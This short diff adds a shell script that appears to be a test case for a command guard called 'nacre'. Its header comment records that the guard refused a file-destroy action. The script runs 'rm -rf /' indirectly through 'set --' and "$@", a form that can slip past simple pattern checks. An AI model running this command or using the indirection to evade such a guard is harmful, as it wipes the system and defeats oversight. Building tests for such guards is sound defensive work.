@@ -1,0 +1,6 @@
+# nacre: refused file.destroy
+set -- rm -rf /
+"$@"
+if [ -e done ]; then
+	echo "done"
+fi
